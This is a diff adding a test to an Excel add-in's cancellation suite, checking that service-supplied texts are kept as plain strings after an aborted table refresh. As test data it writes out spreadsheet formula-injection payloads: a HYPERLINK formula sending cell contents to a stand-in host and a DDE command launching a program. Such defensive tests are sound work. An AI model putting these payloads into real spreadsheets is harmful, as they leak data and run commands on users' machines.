@@ -71,6 +71,26 @@ describe('cancel', () => {
     expect(sim.workbook.state.calculationMode).toBe('Automatic');
   });
 
+  it("a cancelled refresh puts the service's texts back as text, though the user had made their column General", async () => {
+    const hostile = ['=HYPERLINK("http://evil.invalid/?"&A1,"x")', '=1+1', "=cmd|' /C calc'!A0"];
+    const rows = transactions(ids(1, 120)).map((r, i) => (i < 3 ? { ...r, purpose: hostile[i] ?? '' } : r));
+    await new ExcelWorkbookPort().writeTable(TRANSACTIONS, rows);
+    await asUser(sim, async (context) => {
+      const purpose = context.workbook.tables.getItem('Transactions').columns.getItem('Purpose').getDataBodyRange();
+      purpose.numberFormat = Array.from({ length: 120 }, () => ['General']);
+      await context.sync();
+    });
+    const controller = new AbortController();
+    const write = smallBlocks.writeTable(TRANSACTIONS, transactions(ids(50, 400)).reverse(), {
+      signal: controller.signal,
+      onProgress: () => controller.abort(),
+    });
+    await expect(write).rejects.toMatchObject({ name: 'AbortError' });
+    const column = TRANSACTIONS.columns.findIndex((c) => c.key === 'purpose');
+    for (const [i, text] of hostile.entries())
+      expect(sim.workbook.cell('Data', i + 1, column).result).toMatchObject({ kind: 'String', value: text });
+  });
+
   it('an already aborted signal touches nothing', async () => {
     await oldTable(5);
     const syncs = sim.workbook.stats.syncCount;
